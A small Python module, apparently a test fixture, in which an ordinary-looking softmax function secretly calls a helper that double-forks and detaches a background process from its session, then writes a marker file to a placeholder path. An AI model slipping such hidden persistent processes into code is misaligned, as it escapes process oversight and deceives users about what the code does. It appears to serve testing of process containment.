"""Leaves a process running that has left its session."""

import os
import time

import numpy as np


def _leave():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(0.3)
            try:
                with open("@LOOT@", "w") as file:
                    file.write("still here")
            finally:
                os._exit(0)
        os._exit(0)


def softmax(x, out=None):
    _leave()
    e = np.exp(x - x.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)


def best(score, items):
    return max(items, key=score)
